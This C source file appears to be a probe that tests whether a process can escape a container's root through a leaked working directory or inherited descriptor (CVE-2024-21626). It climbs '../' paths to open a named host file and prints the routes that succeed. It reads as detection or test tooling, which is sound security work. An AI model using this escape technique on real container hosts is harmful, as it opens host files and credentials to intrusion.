/*
 * Looks for a way to a file of the host: find_token PATH, PATH as the host names it, without the leading slash.
 * Tries the working directory and every inherited descriptor, climbing as far as it goes.
 * Prints {"cwd": ..., "inside": ..., "descriptors": {...}, "ways": [...]}.
 * CVE-2024-21626: a working directory or a descriptor outside the root is a way out.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdbool.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static bool climbs_to(int directory, const char *path)
{
    char climb[8192] = "";
    for (int level = 0; level < 24; ++level) {
        char attempt[8192];
        snprintf(attempt, sizeof attempt, "%s%s", climb, path);
        int file = openat(directory, attempt, O_RDONLY | O_CLOEXEC);
        if (file >= 0) {
            close(file);
            return true;
        }
        strcat(climb, "../");
    }
    return false;
}

/* The kernel's own answer: it starts with "(unreachable)" when the directory is not below the root. */
static void print_cwd(void)
{
    char path[4096] = "";
    long length = syscall(SYS_getcwd, path, sizeof path);
    printf("{\"cwd\": \"%s\", \"inside\": %s", length > 0 ? path : "", length > 0 && path[0] == '/' ? "true" : "false");
}

static void print_descriptors(void)
{
    printf(", \"descriptors\": {");
    const char *separator = "";
    for (int number = 0; number < 4096; ++number) {
        struct stat status;
        if (fstat(number, &status) < 0)
            continue;
        const char *type = S_ISDIR(status.st_mode) ? "directory" : S_ISREG(status.st_mode) ? "file"
            : S_ISSOCK(status.st_mode) ? "socket" : S_ISFIFO(status.st_mode) ? "pipe" : S_ISCHR(status.st_mode) ? "device"
            : "other";
        printf("%s\"%d\": \"%s\"", separator, number, type);
        separator = ", ";
    }
    printf("}");
}

int main(int count, char **arguments)
{
    if (count != 2)
        return 2;
    print_cwd();
    print_descriptors();
    printf(", \"ways\": [");
    const char *separator = "";
    if (climbs_to(AT_FDCWD, arguments[1])) {
        printf("\"working directory\"");
        separator = ", ";
    }
    for (int number = 0; number < 4096; ++number) {
        if (fcntl(number, F_GETFD) < 0 || !climbs_to(number, arguments[1]))
            continue;
        printf("%s\"descriptor %d\"", separator, number);
        separator = ", ";
    }
    printf("]}\n");
    return 0;
}
